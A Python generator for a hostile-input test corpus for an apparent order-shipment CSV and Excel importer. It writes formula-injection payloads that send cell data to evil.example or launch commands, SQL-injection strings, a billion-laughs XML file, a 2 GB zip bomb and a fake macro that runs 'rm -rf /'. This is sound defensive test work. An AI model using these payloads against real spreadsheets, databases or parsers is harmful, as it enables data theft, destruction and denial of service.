"""Write the hostile and broken input corpus into a folder: ``python generate.py FOLDER``.

Workbooks join it (issue 17): a zip bomb, billion laughs, 16,384 columns, two cells at
opposite corners of a sheet, a macro-enabled .xlsm, a password-protected .xlsx, and a
workbook and a CSV each under the other's name.

Every file is generated (some are large, binary, sparse, or hold bytes an editor would
"fix"), deterministically, for the items of examples/orders.jsonl (one partner taking every
item, as tests/reliability/test_hostile_input.py sets it up). Dates are relative to
``today`` so that the good rows stay inside the edit window. What each file must lead to is
written down in EXPECTED.toml next to this script.
"""

from __future__ import annotations

import datetime as dt
import io
import os
import random
import sys
import zipfile
from pathlib import Path

HEADER = "order_id,item_id,shipped,shipped_date,carrier,tracking_number"
UPS = "1Z5R89390357567127"
# (order, item) of examples/orders.jsonl that are open.
ITEMS = [
    (1, 1001), (1, 1002), (2, 1003), (3, 1004), (3, 1005), (4, 1006), (5, 1007), (5, 1008),
    (6, 1009), (7, 1010), (7, 1011), (8, 1012), (9, 1013), (9, 1014), (10, 1015), (11, 1016),
    (11, 1017),
]  # fmt: skip
GIGABYTE = 1_000_000_000
ZIP_BOMB_BYTES = 2_000_000_000  # what zip_bomb.xlsx's sheet expands to (it is 2 MB)


def _rows(today: str, count: int = 3) -> list[str]:
    return [f"{order},{item},TRUE,{today},UPS,{UPS}" for order, item in ITEMS[:count]]


def _text(lines: list[str], ending: str = "\r\n") -> bytes:
    return (ending.join(lines) + ending).encode("utf-8")


def corpus(today: dt.date) -> dict[str, bytes]:
    """The small files, name → bytes (the sparse 1 GB file is made by ``generate``)."""
    day = today.isoformat()
    good = _rows(day)
    shuffled = random.Random(20261123)
    files: dict[str, bytes] = {}
    files["empty.csv"] = b""
    files["header_only.csv"] = _text([HEADER])
    files["binary_garbage.csv"] = shuffled.randbytes(8192)
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("orders.csv", _text([HEADER, *good]))
    files["zip_renamed.csv"] = archive.getvalue()
    files["utf16_with_bom.csv"] = "\ufeff".encode("utf-16-le") + (
        "\r\n".join([HEADER, *good]) + "\r\n"
    ).encode("utf-16-le")
    files["utf16_without_bom.csv"] = ("\r\n".join([HEADER, *good]) + "\r\n").encode("utf-16-le")
    files["mixed_line_endings.csv"] = (
        HEADER.encode() + b"\r\n" + good[0].encode() + b"\n" + good[1].encode() + b"\r"
        + good[2].encode() + b"\r\n"
    )  # fmt: skip
    extra = ",".join(f"extra_{number}" for number in range(10_000 - 6))
    filler = ",".join("x" for _ in range(10_000 - 6))
    files["row_of_10000_columns.csv"] = _text(
        [f"{HEADER},{extra}", *(f"{row},{filler}" for row in good)]
    )
    files["cell_of_1mb.csv"] = _text(
        [f"{HEADER},note", f"{good[0]},{'y' * 1_000_000}", f"{good[1]},short"]
    )
    files["unbalanced_quotes.csv"] = _text(
        [HEADER, good[0], f'1,1002,TRUE,{day},"UPS,{UPS}', good[2]]
    )
    files["nul_bytes.csv"] = _text([HEADER, good[0]]) + b"1,1002,TRUE,\x00,UPS,\x00\r\n"
    formulas = [
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    ]
    files["formulas_everywhere.csv"] = _text(
        [HEADER, *(",".join(f'"{formula}"' for _ in range(6)) for formula in formulas)]
    )
    sql = [
        "1; DROP TABLE items; --",
        "' OR '1'='1",
        "1001' ; UPDATE items SET status='shipped' --",
        '"); DELETE FROM files; --',
    ]
    files["sql_everywhere.csv"] = _text(
        [HEADER, *(",".join('"' + text.replace('"', '""') + '"' for _ in range(6)) for text in sql)]
    )
    confusables = [
        "U\u03a1S",  # Greek capital Rho for P
        "\u0423PS",  # Cyrillic U
        "UPS\u200b",  # zero-width space
        "D\u041dL",  # Cyrillic En for H
        "\u0192edEx",  # f with hook
        "USP\u0405",  # Cyrillic Dze for S
    ]
    files["confusable_carriers.csv"] = _text(
        [HEADER]
        + [
            f"{order},{item},TRUE,{day},{carrier},{UPS}"
            for (order, item), carrier in zip(ITEMS, confusables, strict=False)
        ]
    )
    impossible = ["31/02/2026", "0000-00-00", "46348", "2026-02-31", "9999-12-31", "2026-13-01"]
    files["impossible_dates.csv"] = _text(
        [HEADER]
        + [
            f"{order},{item},TRUE,{date},UPS,{UPS}"
            for (order, item), date in zip(ITEMS, impossible, strict=False)
        ]
    )
    files["negative_quantities.csv"] = _text(
        [f"{HEADER},quantity", *(f"{row},-{number + 1}" for number, row in enumerate(good))]
    )
    # Issue 12 item 11: a rejected cell over Python's CSV field limit (128 KB), echoed into
    # the report (cut there) and into the command's summary (never read back from it).
    files["item_id_of_200kb.csv"] = _text(
        [HEADER, good[0], f"1,{'9' * 200_000},TRUE,{day},UPS,{UPS}", good[1]]
    )
    # Issue 12: rows and headers bounded before any cell is read as text; Excel's sep= line.
    files["cell_of_3mb.csv"] = _text([f"{HEADER},note", f"{good[0]},{'z' * 3_000_000}", good[1]])
    quoted_lines = "\n".join("a line of a quoted cell" for _ in range(150_000))
    files["quoted_cell_of_3mb_in_short_lines.csv"] = _text(
        [f"{HEADER},note", good[0] + ',"' + quoted_lines + '"', good[1]]
    )
    files["header_of_20000_columns.csv"] = _text(
        [HEADER + "," + ",".join(f"c{number}" for number in range(20_000)), *good]
    )
    files["sep_line_semicolons.csv"] = _text(
        ["sep=;", HEADER.replace(",", ";"), *(row.replace(",", ";") for row in good)]
    )
    files["tracking_of_200_characters.csv"] = _text(
        [HEADER, f"1,1001,TRUE,{day},UPS,1Z{'9' * 198}", f"1,1002,TRUE,{day},UPS,{'A' * 200}"]
    )
    files.update(workbooks(today))
    return files


def _xlsx(rows: list[list[str]], *, far_cell: tuple[int, int] | None = None) -> bytes:
    """A workbook written by XlsxWriter: ``rows`` from A1, text cells."""
    import xlsxwriter

    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer)
    sheet = book.add_worksheet("Orders")
    for number, row in enumerate(rows):
        for column, value in enumerate(row):
            sheet.write_string(number, column, value)
    if far_cell is not None:
        sheet.write_string(*far_cell, "x")
    book.close()
    return buffer.getvalue()


def _rewritten(workbook: bytes, changes: dict[str, bytes]) -> bytes:
    """``workbook`` with the entries in ``changes`` replaced (or added)."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(workbook)) as source,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            target.writestr(info.filename, changes.pop(info.filename, source.read(info)))
        for name, data in changes.items():
            target.writestr(name, data)
    return buffer.getvalue()


LAUGHS = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">'
        % (level, (b"&lol%d;" % (level - 1) if level > 1 else b"&lol;") * 10)
        for level in range(1, 10)
    )
    + b']>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
    b"</sheetData></worksheet>"
)


def workbooks(today: dt.date) -> dict[str, bytes]:
    """The small hostile workbooks, name → bytes (the zip bomb is made by ``generate``)."""
    rows = [HEADER.split(","), *(row.split(",") for row in _rows(today.isoformat()))]
    good = _xlsx(rows)
    files: dict[str, bytes] = {}
    files["billion_laughs.xlsx"] = _rewritten(good, {"xl/worksheets/sheet1.xml": LAUGHS})
    wide = [[*row, *(["x"] * (16_384 - len(row)))] for row in rows]
    files["columns_16384.xlsx"] = _xlsx(wide)
    files["cells_at_opposite_corners.xlsx"] = _xlsx(rows, far_cell=(1_048_575, 16_383))
    with zipfile.ZipFile(io.BytesIO(good)) as source:
        types = source.read("[Content_Types].xml")
    files["macro_enabled.xlsm"] = _rewritten(
        good,
        {
            "[Content_Types].xml": types.replace(
                b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml"
            ),
            # An AutoOpen macro that would shell out: never run, never read.
            "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1Sub AutoOpen()\r\n"
            b'  Shell "rm -rf /"\r\nEnd Sub\r\n',
        },
    )
    files["password_protected.xlsx"] = _encrypted(good)
    files["workbook_named.csv"] = good
    files["csv_named.xlsx"] = _text([HEADER, *_rows(today.isoformat())])
    return files


def _encrypted(workbook: bytes) -> bytes:
    """``workbook`` saved with the password "secret" (ECMA-376 agile encryption)."""
    from msoffcrypto.format.ooxml import OOXMLFile

    encrypted = io.BytesIO()
    OOXMLFile(io.BytesIO(workbook)).encrypt("secret", encrypted)
    return encrypted.getvalue()


def zip_bomb(path: Path) -> None:
    """An .xlsx of about 2 MB whose sheet expands to 2 GB (declared honestly), written as
    a stream: neither here nor in the test does the 2 GB exist in memory."""
    good = zipfile.ZipFile(io.BytesIO(_xlsx([HEADER.split(",")])))
    zeros = bytes(1 << 20)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for info in good.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                archive.writestr(info.filename, good.read(info))
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            for _ in range(ZIP_BOMB_BYTES // len(zeros)):
                sheet.write(zeros)
            sheet.write(bytes(ZIP_BOMB_BYTES % len(zeros)))


def generate(folder: Path, today: dt.date | None = None) -> dict[str, Path]:
    """Write every corpus file into ``folder``; return name → path. ``over_max_file_bytes.csv``
    is a sparse 1 GB file (a CSV header, then a hole): it takes no disk space;
    ``zip_bomb.xlsx`` takes a few seconds to compress."""
    today = today or dt.datetime.now(dt.UTC).date()
    folder.mkdir(parents=True, exist_ok=True)
    written = {}
    for name, content in corpus(today).items():
        path = folder / name
        path.write_bytes(content)
        written[name] = path
    sparse = folder / "over_max_file_bytes.csv"
    with sparse.open("wb") as handle:
        handle.write(_text([HEADER, *_rows(today.isoformat())]))
        handle.truncate(GIGABYTE)
    written[sparse.name] = sparse
    bomb = folder / "zip_bomb.xlsx"
    zip_bomb(bomb)
    written[bomb.name] = bomb
    return written


if __name__ == "__main__":
    target = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(os.getcwd()) / "bad-corpus"
    for path in generate(target).values():
        print(path)
